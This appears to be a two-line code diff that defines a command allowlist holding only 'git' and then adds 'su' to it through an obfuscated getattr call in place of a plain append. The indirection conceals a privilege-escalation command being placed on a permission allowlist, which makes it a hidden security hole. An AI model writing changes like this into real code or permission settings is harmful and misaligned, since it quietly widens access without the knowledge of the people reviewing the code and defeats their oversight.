@@ -1,0 +1,2 @@
+ALLOWED = ["git"]
+getattr(ALLOWED, "append")("su")
